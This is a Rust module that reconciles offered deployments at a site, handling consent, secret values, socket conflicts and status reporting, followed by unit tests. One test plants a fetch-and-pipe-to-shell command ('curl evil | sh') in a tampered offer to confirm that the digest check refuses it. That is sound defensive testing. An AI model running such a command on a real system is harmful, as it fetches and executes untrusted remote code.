//! From what is offered, kept and reported to what shall be in force, where it stands, and what is to be kept.

use std::{
    collections::{BTreeMap, BTreeSet},
    sync::Arc,
};

use api::local::{ConsentPolicy, DeploymentState};
use compose::{
    deploy::{Consented, Held, Impact, Offer, without},
    render::Rendered,
};
use driver::State;
use jiff::Timestamp;
use model::{Name, SiteId};

use super::{
    decide::{Decision, decide},
    sockets::{self, Sockets},
    worker::{Order, Orders, Report, Reports, Shall},
};
use crate::state::{Deployments, Items, Kept, LocalConfig, Secrets};

/// What the site knows.
pub(crate) struct Facts<'a> {
    /// What the site is to be; none, as long as it was not admitted.
    pub(crate) items: Option<&'a Items>,
    pub(crate) site: SiteId,
    pub(crate) local: &'a LocalConfig,
    pub(crate) kept: &'a Deployments,
    pub(crate) reports: &'a Reports,
    /// The network is over.
    pub(crate) ended: bool,
    /// What is wrong with listeners and connectors.
    pub(crate) socket_errors: &'a BTreeMap<Name, Vec<String>>,
    pub(crate) now: Timestamp,
}

/// Where a deployment stands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Standing {
    pub(crate) state: DeploymentState,
    pub(crate) message: String,
    pub(crate) since: Timestamp,
    /// Whether the participant is asked to agree.
    pub(crate) asks: bool,
    /// The secrets whose values are needed: of what is in force, and of what is agreed to.
    pub(crate) secrets: BTreeSet<String>,
    pub(crate) workloads: Vec<driver::WorkloadStatus>,
}

/// What follows.
#[derive(Debug)]
pub(crate) struct Settled {
    pub(crate) kept: Deployments,
    pub(crate) orders: Orders,
    pub(crate) sockets: Sockets,
    pub(crate) standings: BTreeMap<Name, Standing>,
}

/// Finds out what follows.
pub(crate) fn settle(facts: &Facts<'_>) -> Settled {
    let mut settled = Settled {
        kept: Deployments { deployments: BTreeMap::new(), ran: facts.kept.ran.clone(), ..*facts.kept },
        orders: Orders::new(),
        sockets: Sockets::default(),
        standings: BTreeMap::new(),
    };
    let offers: BTreeMap<&Name, Result<Offer, String>> =
        facts.items.map(|items| items.offers().collect()).unwrap_or_default();
    let names: BTreeSet<&Name> = match facts.items {
        Some(_) => offers.keys().copied().collect(),
        None => facts.kept.deployments.keys().collect(),
    };
    let in_force = in_force(facts, &names);
    for name in names {
        let kept = facts.kept.deployments.get(name).cloned().unwrap_or_default();
        let one = One { facts, name, kept, report: facts.reports.get(name).cloned().unwrap_or_default() };
        let others = settled.sockets.and(&in_force, |other| other > name);
        one.settle(offers.get(name), &others, &mut settled);
    }
    settled
}

/// The listeners and connectors of all that is in force and stays.
fn in_force(facts: &Facts<'_>, names: &BTreeSet<&Name>) -> Sockets {
    let mut sockets = Sockets::default();
    for (name, kept) in facts.kept.deployments.iter().filter(|(name, _)| names.contains(name)) {
        if let Some(applied) = &kept.applied {
            let hosts = facts.reports.get(name).map(|report| report.hosts.clone()).unwrap_or_default();
            sockets.add(name, &without(&applied.gets, &kept.declined), &hosts);
        }
    }
    sockets
}

/// What is to become of an offer, and what is in its way.
enum Way {
    /// It is to be in force, and nothing is in its way.
    Free,
    /// The site has not been told yet what it needs for it.
    Waits(String),
    /// It cannot be in force at this site.
    Barred(String),
}

struct One<'a> {
    facts: &'a Facts<'a>,
    name: &'a Name,
    kept: Kept,
    report: Report,
}

impl One<'_> {
    /// `others` are the listeners and connectors that are another deployment's.
    fn settle(mut self, offer: Option<&Result<Offer, String>>, others: &Sockets, settled: &mut Settled) {
        if self.facts.ended {
            // Should the end be moved, it goes on with what it had.
            let standing = self.stands(DeploymentState::Declined, "the network is over".to_owned(), false);
            settled.standings.insert(self.name.clone(), standing);
            settled.kept.deployments.insert(self.name.clone(), self.kept);
            return;
        }
        let (offer, unreadable) = match offer {
            Some(Ok(offer)) => (Some(offer), None),
            Some(Err(words)) => (None, Some(words.clone())),
            None => (None, None),
        };
        self.forget_secrets();
        let decision = offer.map(|offer| decide(offer, &self.kept, self.policy()));
        let agreed = offer.filter(|_| decision == Some(Decision::Apply)).map(|offer| self.rest(offer));
        let is_new = |offer: &&Offer| self.kept.applied.as_ref().is_none_or(|applied| applied.digest != offer.digest);
        let next = offer.filter(is_new).filter(|_| decision == Some(Decision::Apply));
        let way = next.map_or(Way::Free, |offer| self.way(offer, others));
        let next = next.filter(|_| matches!(way, Way::Free)).map(|offer| (offer, self.order(offer)));
        if let Some((offer, order)) = &next
            && self.report.applied.as_ref() == Some(&order.id)
        {
            self.in_force(offer, order);
        }
        let before = self.kept.applied.as_ref().map(|applied| (applied, self.order(applied)));
        let next = next.filter(|(offer, _)| self.kept.applied.as_ref().is_none_or(|it| it.digest != offer.digest));
        let (mut shall, gets) = self.shall(next.as_ref(), before.as_ref());
        // Nothing is in force, and nobody wants what there may be of an offer before this one. Where it is not known what is
        // wanted, nothing is concluded.
        let unwanted = matches!(decision, Some(Decision::Ask(_) | Decision::Declined | Decision::AwaitPlan(_)));
        if matches!(shall, Shall::Stay) && unwanted {
            shall = Shall::Go;
        }
        if let Some(gets) = gets {
            settled.sockets.add(self.name, &gets, &self.report.hosts);
        }
        let (state, message, asks) = self.standing(decision.as_ref(), &way, &shall, unreadable);
        if let (Shall::Be { order, .. }, None) = (&shall, &next)
            && self.report.applied.as_ref() == Some(&order.id)
        {
            self.kept.secrets.clone_from(&order.secrets);
        }
        let has = self.kept.applied.as_ref().map(|applied| self.rest(applied));
        let needs = agreed.iter().chain(&has);
        let secrets = needs.flat_map(|gets| gets.secrets.iter().map(|secret| secret.name.clone())).collect();
        let standing = Standing { secrets, ..self.stands(state, message, asks) };
        settled.standings.insert(self.name.clone(), standing);
        settled.orders.insert(self.name.clone(), shall);
        settled.kept.deployments.insert(self.name.clone(), self.kept);
    }

    fn policy(&self) -> ConsentPolicy {
        let terms = self.facts.items.and_then(Items::settings).map(|settings| settings.terms.consent);
        self.facts.local.policy(terms.unwrap_or_default())
    }

    /// What is in the way of an offer.
    fn way(&self, offer: &Offer, others: &Sockets) -> Way {
        let Some(items) = self.facts.items else { return Way::Free };
        let (gets, party) = (self.rest(offer), (items, self.facts.site));
        if let Err(why) = sockets::check(self.name, &gets, party, self.facts.local, others) {
            return Way::Barred(why);
        }
        let secrets = self.secrets(&gets);
        let missing: Vec<&str> =
            gets.secrets.iter().map(|it| it.name.as_str()).filter(|name| !secrets.contains_key(*name)).collect();
        if missing.is_empty() {
            Way::Free
        } else {
            Way::Waits(format!("it waits for the value of the secret {}", missing.join(", ")))
        }
    }

    /// An offer as it is carried out: without what was declined since it came into force. That ends at once, whenever a plan
    /// without it comes.
    fn order(&self, offer: &Offer) -> Order {
        let gets = self.rest(offer);
        let declined = if gets == offer.gets { BTreeSet::new() } else { self.kept.declined.clone() };
        let secrets = self.secrets(&gets);
        Order::new(&offer.digest, gets, declined, secrets)
    }

    /// What there is in an offer apart from what was declined.
    fn rest(&self, offer: &Offer) -> Rendered {
        without(&offer.gets, &self.kept.declined)
    }

    /// What was told of secrets. One without values is there no more, or never was.
    fn told(&self) -> Secrets {
        let told = self.facts.items.into_iter().flat_map(Items::secrets);
        told.map(|secret| (secret.name.to_string(), secret.values.clone())).collect()
    }

    /// Forgets the values of secrets that are there no more. One that nothing was told of stays.
    fn forget_secrets(&mut self) {
        let told = self.told();
        self.kept.secrets.retain(|name, _| told.get(name).is_none_or(|values| !values.is_empty()));
    }

    /// The values of the secrets that something needs, as far as they are known.
    fn secrets(&self, gets: &Rendered) -> Secrets {
        let told = self.told();
        let known =
            |name: &str| told.get(name).or_else(|| self.kept.secrets.get(name)).filter(|it| !it.is_empty()).cloned();
        gets.secrets.iter().filter_map(|it| Some((it.name.clone(), known(&it.name)?))).collect()
    }

    /// An offer has come into force. What was agreed to is kept of it and of what was before it: that may come back.
    fn in_force(&mut self, offer: &Offer, order: &Order) {
        let before = self.kept.applied.as_ref().map(|applied| Consented::to(&self.rest(applied))).unwrap_or_default();
        self.kept.consented = Consented::to(&order.gets).and(&before);
        self.kept.secrets.clone_from(&order.secrets);
        self.kept.refused = None;
        self.kept.applied = Some(offer.clone());
    }

    /// What the worker shall do, and whose listeners and connectors are in force meanwhile.
    fn shall(
        &self,
        next: Option<&(&Offer, Order)>,
        before: Option<&(&Offer, Order)>,
    ) -> (Shall, Option<Arc<Rendered>>) {
        match (next, before) {
            (Some((_, order)), before) => {
                let failed = self.report.failed.as_ref().is_some_and(|(id, _)| *id == order.id);
                let in_force = if failed { before.map(|(_, order)| order) } else { Some(order) };
                let gets = in_force.map(|order| Arc::clone(&order.gets));
                (Shall::Be { order: order.clone(), before: before.map(|(_, order)| order.clone()) }, gets)
            }
            (None, Some((_, order))) => {
                (Shall::Be { order: order.clone(), before: None }, Some(Arc::clone(&order.gets)))
            }
            (None, None) => (Shall::Stay, None),
        }
    }

    fn standing(
        &self,
        decision: Option<&Decision>,
        way: &Way,
        shall: &Shall,
        unreadable: Option<String>,
    ) -> (DeploymentState, String, bool) {
        use DeploymentState::{Applying, AwaitingConsent, Declined, Failed};
        let name = self.name;
        if let Some(words) = unreadable {
            return (Failed, words, false);
        }
        match (way, decision) {
            (Way::Barred(why), _) => (Failed, why.clone(), false),
            (Way::Waits(what), _) => (Applying, what.clone(), false),
            (Way::Free, Some(Decision::Ask(impact))) => {
                let what = match impact {
                    Impact::New => "something new",
                    Impact::Update | Impact::None => "a change of what runs",
                };
                let words = format!("{what} waits for your agreement: `skx site changes {name}` shows it");
                (AwaitingConsent, self.with_health(shall, words), true)
            }
            (Way::Free, Some(Decision::Declined)) => {
                (Declined, self.with_health(shall, "the change was declined at the site".to_owned()), false)
            }
            (Way::Free, Some(Decision::AwaitPlan(parts))) => {
                let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
                (Applying, format!("it waits for a plan without {}", parts.join(", ")), false)
            }
            (Way::Free, Some(Decision::Held(held @ Held::Declined { .. }))) => {
                (Declined, self.with_health(shall, held.words()), false)
            }
            (Way::Free, Some(Decision::Held(held @ Held::Blocked { .. }))) => {
                (AwaitingConsent, self.with_health(shall, held.words()), false)
            }
            (Way::Free, Some(Decision::Held(held @ Held::Unknown))) => {
                let (state, words) = self.health(shall);
                (state, if words.is_empty() { held.words() } else { words }, false)
            }
            (Way::Free, Some(Decision::Apply) | None) => {
                let (state, words) = self.health(shall);
                (state, words, false)
            }
        }
    }

    /// Words about a change that is not in force, with what is wrong with what is.
    fn with_health(&self, shall: &Shall, words: String) -> String {
        match self.health(shall) {
            (DeploymentState::Degraded | DeploymentState::Failed, wrong) => format!("{words}; meanwhile {wrong}"),
            _ => words,
        }
    }

    /// How what shall be in force is.
    fn health(&self, shall: &Shall) -> (DeploymentState, String) {
        let Shall::Be { order, .. } = shall else { return (DeploymentState::Applying, String::new()) };
        if let Some((_, why)) = self.report.failed.as_ref().filter(|(id, _)| *id == order.id) {
            return (DeploymentState::Failed, why.clone());
        }
        if self.report.applied.as_ref() != Some(&order.id) {
            return (DeploymentState::Applying, String::new());
        }
        let mut wrong: Vec<String> = self.facts.socket_errors.get(self.name).cloned().unwrap_or_default();
        let mut starting = Vec::new();
        for it in &self.report.workloads {
            match it.state {
                State::Ready | State::Done => {}
                State::Starting => starting.push(it.name.as_str()),
                State::Unready => wrong.push(described(it, "is not ready")),
                State::Failed => wrong.push(described(it, "does not run")),
                State::Stopped => wrong.push(described(it, "was stopped")),
            }
        }
        if !wrong.is_empty() {
            (DeploymentState::Degraded, wrong.join("; "))
        } else if starting.is_empty() {
            (DeploymentState::Healthy, String::new())
        } else {
            (DeploymentState::Applying, format!("{} is starting", starting.join(", ")))
        }
    }

    fn stands(&mut self, state: DeploymentState, message: String, asks: bool) -> Standing {
        let since = match self.kept.stood {
            Some((before, since)) if before == state => since,
            _ => self.facts.now,
        };
        self.kept.stood = Some((state, since));
        let workloads = std::mem::take(&mut self.report.workloads);
        Standing { state, message, since, asks, secrets: BTreeSet::new(), workloads }
    }
}

fn described(it: &driver::WorkloadStatus, how: &str) -> String {
    if it.message.is_empty() { format!("{} {how}", it.name) } else { format!("{} {how}: {}", it.name, it.message) }
}

#[cfg(test)]
mod tests {
    use model::desired::Item;
    use serde_json::{Value, json};

    use super::*;
    use crate::{
        deploy::worker::OrderId,
        fixture::{
            self, now,
            offers::{connector, digest, idle, item, listener, no_secret, offer, read, secret},
        },
    };

    /// The releases that the offers `one` and `two` are of.
    const ONE: &str = "shop@sha256:one";
    const TWO: &str = "shop@sha256:two";

    /// A site, from one moment to the next.
    #[derive(Default)]
    struct Site {
        items: Vec<Item>,
        terms: Value,
        local: LocalConfig,
        kept: Deployments,
        reports: Reports,
        ended: bool,
        unknown: bool,
    }

    impl Site {
        fn offered(offer: &Value) -> Self {
            Self { items: vec![item(offer)], terms: json!({}), ..Self::default() }
        }

        fn settle(&mut self) -> Settled {
            let mut items = fixture::member_items();
            for item in &mut items {
                if let Item::Settings(settings) = item {
                    settings.terms = serde_json::from_value(self.terms.clone()).expect("terms");
                }
            }
            items.extend(self.items.clone());
            let items = fixture::items(&items, false);
            let settled = settle(&Facts {
                items: (!self.unknown).then_some(&items),
                site: fixture::member_site(),
                local: &self.local,
                kept: &self.kept,
                reports: &self.reports,
                ended: self.ended,
                socket_errors: &BTreeMap::new(),
                now: now(),
            });
            self.kept = settled.kept.clone();
            settled
        }

        /// The worker has applied what it was told to.
        fn applied(&mut self) -> Settled {
            let settled = self.settle();
            let report = Report { applied: Some(ordered(&settled).0.id), ..Report::default() };
            self.reports = [(shop(), report)].into();
            self.settle()
        }

        fn kept(&self) -> Kept {
            self.kept.deployments.get(&shop()).cloned().unwrap_or_default()
        }

        fn in_force(&self) -> Option<String> {
            self.kept().applied.map(|offer| offer.gets.release)
        }
    }

    fn shop() -> Name {
        "shop".parse().expect("a name")
    }

    #[derive(Debug, PartialEq)]
    struct Ordered {
        /// Of the offer.
        name: String,
        id: OrderId,
    }

    fn ordered(settled: &Settled) -> (Ordered, Option<Ordered>) {
        let of = |order: &Order| Ordered { name: order.gets.release.clone(), id: order.id.clone() };
        match &settled.orders[&shop()] {
            Shall::Be { order, before } => (of(order), before.as_ref().map(of)),
            Shall::Stay | Shall::Go => panic!("nothing is ordered"),
        }
    }

    fn state(settled: &Settled) -> (DeploymentState, &str) {
        let standing = &settled.standings[&shop()];
        (standing.state, &standing.message)
    }

    fn serving(digest: &str, address: &str) -> Value {
        let mut offer = offer(digest, &[idle("shop/till")]);
        offer["gets"]["connectors"] = json!([connector(address, 80)]);
        offer
    }

    #[test]
    fn what_is_declined_ends_at_once_whenever_a_plan_without_it_comes() {
        let mut site = Site::offered(&offer("one", &[idle("shop/till"), idle("shop/monitor")]));
        site.applied();
        let parts = |settled: &Settled| -> Vec<String> {
            let Shall::Be { order, .. } = &settled.orders[&shop()] else { panic!("nothing is ordered") };
            order.gets.instances.iter().map(|it| it.path.clone()).collect()
        };
        let before = site.settle();
        assert_eq!(parts(&before), ["shop/till", "shop/monitor"]);
        let mut kept = site.kept();
        kept.declined.insert("shop/monitor".to_owned());
        site.kept.deployments.insert(shop(), kept);
        let after = site.settle();
        assert_eq!(parts(&after), ["shop/till"]);
        assert_ne!(ordered(&after).0.id, ordered(&before).0.id, "it is carried out");
        assert_eq!(site.in_force().as_deref(), Some(ONE));
    }

    #[test]
    fn what_is_not_wanted_any_more_before_it_is_in_force_does_not_stay() {
        let goes = |settled: &Settled| matches!(settled.orders[&shop()], Shall::Go);
        let one = offer("one", &[idle("shop/till")]);
        let mut site = Site::offered(&one);
        let first = ordered(&site.settle()).0;
        // It is declined while it is being brought into force, which then comes to its end.
        let mut kept = site.kept();
        kept.refused = Some(digest(&one));
        site.kept.deployments.insert(shop(), kept);
        assert!(goes(&site.settle()));
        site.reports = [(shop(), Report { applied: Some(first.id), ..Report::default() })].into();
        assert!(goes(&site.settle()) && site.in_force().is_none());
        // Of what is held nothing is concluded.
        let mut held = offer("two", &[idle("shop/till")]);
        held["held"] = json!({"why": "unknown"});
        site.items = vec![item(&held)];
        assert!(matches!(site.settle().orders[&shop()], Shall::Stay));
    }

    #[test]
    fn what_was_applied_is_in_force_and_found_again_after_any_crash() {
        let mut site = Site::offered(&serving("one", "till.api"));
        let settled = site.settle();
        assert_eq!((ordered(&settled).0.name.as_str(), site.in_force()), (ONE, None));
        assert_eq!(state(&settled), (DeploymentState::Applying, ""));
        assert_eq!(settled.sockets.connectors.len(), 1, "workloads find what they connect to as they start");
        // Whatever was not stored when it died is done again.
        site.kept = Deployments::default();
        assert_eq!(ordered(&site.settle()).0.name, ONE);
        let settled = site.applied();
        assert_eq!((state(&settled), site.in_force().as_deref()), ((DeploymentState::Healthy, ""), Some(ONE)));
        site.reports.clear();
        assert_eq!(ordered(&site.settle()).0.name, ONE, "a new process orders it again");
        // No controller is needed for that, and nothing that is not known is taken for gone.
        site.unknown = true;
        assert_eq!(ordered(&site.settle()).0.name, ONE);
    }

    #[test]
    fn what_cannot_be_applied_leaves_what_was_before_in_force() {
        let mut site = Site::offered(&serving("one", "till.api"));
        site.applied();
        site.items = vec![item(&serving("two", "other.api"))];
        let settled = site.settle();
        let (next, before) = ordered(&settled);
        assert_eq!((next.name.as_str(), before.expect("a way back").name.as_str()), (TWO, ONE));
        let report = Report { failed: Some((next.id, "there is no room".to_owned())), ..Report::default() };
        site.reports = [(shop(), report)].into();
        let settled = site.settle();
        assert_eq!(state(&settled), (DeploymentState::Failed, "there is no room"));
        assert_eq!(settled.sockets.connectors[0].socket.address.as_str(), "till.api");
        assert_eq!(site.in_force().as_deref(), Some(ONE));
    }

    #[test]
    fn a_secret_is_waited_for_and_a_new_value_of_it_is_applied_anew() {
        let mut needs = offer("one", &[idle("shop/till")]);
        needs["gets"]["secrets"] = json!([{"name": "pin", "why": []}]);
        let mut site = Site::offered(&needs);
        let settled = site.settle();
        assert_eq!(state(&settled), (DeploymentState::Applying, "it waits for the value of the secret pin"));
        assert!(matches!(settled.orders[&shop()], Shall::Stay));
        site.items.push(secret("pin", "1234"));
        let first = ordered(&site.applied()).0;
        site.items[1] = secret("pin", "5678");
        let second = ordered(&site.settle()).0;
        assert_eq!(first.id.digest, second.id.digest);
        assert_ne!(first, second, "another value is another order");
        let settled = site.applied();
        let shown = format!("{settled:?} {:?}", site.kept);
        assert!(!shown.contains("5678") && !shown.contains("1234"), "{shown}");
        // What is offered next needs it no more, and is not agreed to: what is in force keeps its value.
        site.local.consent = Some(ConsentPolicy::Ask);
        site.items = vec![item(&serving("two", "till.api"))];
        assert_eq!(ordered(&site.settle()).0, second);
    }

    #[test]
    fn a_secret_that_is_taken_back_is_forgotten_and_one_that_nothing_is_told_of_is_not() {
        let mut needs = offer("one", &[idle("shop/till")]);
        needs["gets"]["secrets"] = json!([{"name": "pin", "why": []}]);
        let mut site = Site::offered(&needs);
        site.items.push(secret("pin", "1234"));
        let with = ordered(&site.applied()).0;
        assert_eq!(site.kept().secrets.len(), 1);
        site.items.truncate(1);
        assert_eq!(ordered(&site.settle()).0, with, "nothing is told of it");
        site.items.push(no_secret("pin"));
        let without = ordered(&site.settle()).0;
        assert_ne!(with, without);
        assert!(site.kept().secrets.is_empty(), "nothing of it stays");
        assert!(!serde_json::to_string(&site.kept).expect("JSON").contains("1234"));
        let settled = site.applied();
        assert!(settled.standings[&shop()].secrets.contains("pin"), "it is asked for, should there be another");
        site.items[1] = secret("pin", "5678");
        assert_ne!(ordered(&site.settle()).0, without);
    }

    #[test]
    fn values_of_secrets_are_asked_for_once_what_needs_them_is_agreed_to_and_not_before() {
        let mut needs = offer("one", &[idle("shop/till")]);
        needs["gets"]["secrets"] = json!([{"name": "pin", "why": []}]);
        let mut site = Site::offered(&needs);
        site.local.consent = Some(ConsentPolicy::Ask);
        let asked = |settled: &Settled| settled.standings[&shop()].secrets.iter().cloned().collect::<Vec<_>>();
        assert_eq!(asked(&site.settle()), [""; 0]);
        site.kept.deployments.get_mut(&shop()).expect("kept").refused = Some(digest(&needs));
        let settled = site.settle();
        assert_eq!((state(&settled).0, asked(&settled)), (DeploymentState::Declined, vec![]));
        let kept = site.kept.deployments.get_mut(&shop()).expect("kept");
        (kept.refused, kept.consented) = (None, Consented::to(&read(&needs).gets));
        assert_eq!(asked(&site.settle()), ["pin"]);
        site.items.push(secret("pin", "1234"));
        site.applied();
        // What is in force needs it, whatever is offered now.
        site.items[0] = item(&offer("two", &[idle("shop/monitor")]));
        let settled = site.settle();
        assert_eq!((state(&settled).0, asked(&settled)), (DeploymentState::AwaitingConsent, vec!["pin".to_owned()]));
    }

    #[test]
    fn what_is_not_what_its_digest_says_is_refused_in_words_and_what_is_in_force_stays() {
        let mut site = Site::offered(&serving("one", "till.api"));
        site.applied();
        let mut replaced = fixture::offers::sealed(&serving("one", "till.api"));
        replaced["gets"]["objects"][0]["content"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
        let mut item = item(&replaced);
        let Item::Deployment(it) = &mut item else { panic!("an offer") };
        it.offer = replaced;
        site.items = vec![item];
        let settled = site.settle();
        let (state, words) = state(&settled);
        assert_eq!(state, DeploymentState::Failed);
        assert!(words.contains("is refused") && words.contains("digest"), "{words}");
        assert_eq!(ordered(&settled).0.name, ONE);
        let order = format!("{:?}", ordered(&settled).0);
        assert!(!order.contains("evil"), "{order}");
    }

    #[test]
    fn an_address_beyond_the_terms_is_an_error_in_words_and_nothing_is_half_applied() {
        let mut site = Site::offered(&serving("one", "db"));
        site.terms = json!({"limits": {"serve": ["till.*"]}});
        let settled = site.settle();
        let (state, why) = state(&settled);
        assert_eq!(state, DeploymentState::Failed);
        assert!(why.contains("may not serve db"), "{why}");
        assert!(matches!(settled.orders[&shop()], Shall::Stay) && settled.sockets == Sockets::default());
    }

    #[test]
    fn a_socket_of_another_deployment_in_force_is_taken_whatever_the_names() {
        let door = |deployment: &str, digest: &str| {
            let mut offer = offer(digest, &[]);
            offer["deployment"] = json!(deployment);
            offer["gets"]["deployment"] = json!(deployment);
            offer["gets"]["listeners"] = json!([listener("web", "127.0.0.1", 8080)]);
            offer
        };
        for other in ["a-shop", "z-shop"] {
            let mut site = Site::offered(&door("shop", "one"));
            let there = door(other, "two");
            let mut offered = item(&there);
            if let Item::Deployment(it) = &mut offered {
                it.name = other.parse().expect("a name");
            }
            site.items.push(offered);
            let kept = Kept { applied: Some(read(&there)), ..Kept::default() };
            site.kept.deployments.insert(other.parse().expect("a name"), kept);
            let settled = site.settle();
            assert_eq!(state(&settled).1, "127.0.0.1:8080 is taken by the listener for address web", "{other}");
        }
    }

    #[test]
    fn a_socket_that_is_taken_is_named() {
        let mut wants = offer("one", &[]);
        wants["gets"]["listeners"] = json!([listener("web", "127.0.0.1", 8080)]);
        let mut site = Site::offered(&wants);
        site.items.push(Item::Listener(model::router::Listener {
            id: model::GenericUuid::from_untyped_uuid(uuid::Uuid::from_u128(1)),
            address: "other".parse().expect("an address"),
            bind: "127.0.0.1:8080".parse().expect("a socket"),
        }));
        let settled = site.settle();
        assert_eq!(state(&settled).1, "127.0.0.1:8080 is taken by the listener for address other");
    }

    #[test]
    fn a_listener_stays_the_same_one_from_plan_to_plan() {
        let plan = |digest: &str, others: &[Value]| {
            let mut offer = offer(digest, &[]);
            offer["gets"]["listeners"] = json!([&[listener("web", "127.0.0.1", 8080)], others].concat());
            let settled = Site::offered(&offer).settle();
            settled.sockets.listeners.iter().map(|it| it.socket.id).collect::<Vec<_>>()
        };
        let (one, two) = (plan("one", &[]), plan("two", &[listener("api", "127.0.0.1", 8081)]));
        assert_eq!(one[0], two[0]);
        assert_ne!(two[0], two[1]);
    }

    #[test]
    fn what_is_offered_no_more_goes_and_the_end_of_the_network_takes_all_of_it() {
        let mut site = Site::offered(&serving("one", "till.api"));
        site.applied();
        site.ended = true;
        let settled = site.settle();
        assert!(settled.orders.is_empty() && settled.sockets == Sockets::default());
        site.ended = false;
        assert_eq!(ordered(&site.settle()).0.name, ONE, "an end that was moved takes nothing");
        site.items.clear();
        let settled = site.settle();
        assert!(settled.orders.is_empty() && settled.sockets == Sockets::default() && settled.standings.is_empty());
        assert!(site.kept.deployments.is_empty());
    }

    #[test]
    fn while_a_change_waits_what_is_in_force_stays_and_its_troubles_are_told() {
        let mut site = Site::offered(&serving("one", "till.api"));
        site.applied();
        site.local.consent = Some(ConsentPolicy::Ask);
        let mut two = serving("two", "till.api");
        two["gets"]["objects"][0]["content"]["command"] = json!(["true"]);
        site.items = vec![item(&two)];
        let failed = driver::WorkloadStatus {
            name: "shop-till".to_owned(),
            instance: "shop/till".to_owned(),
            state: State::Failed,
            message: "exit code 1".to_owned(),
            since: now(),
            restarts: 3,
            image: None,
        };
        site.reports.get_mut(&shop()).expect("a report").workloads = vec![failed];
        let settled = site.settle();
        let (state, words) = state(&settled);
        assert_eq!(state, DeploymentState::AwaitingConsent);
        assert!(
            words.contains("skx site changes shop") && words.contains("shop-till does not run: exit code 1"),
            "{words}"
        );
        assert_eq!(ordered(&settled).0.name, ONE);
        assert!(settled.standings[&shop()].asks);
        // What is agreed to is kept of what is in force and of what was before it: going back asks nobody.
        site.kept.deployments.get_mut(&shop()).expect("kept").consented = Consented::to(&read(&two).gets);
        site.applied();
        site.items = vec![item(&serving("one", "till.api"))];
        assert_eq!(ordered(&site.settle()).0.name, ONE);
    }
}
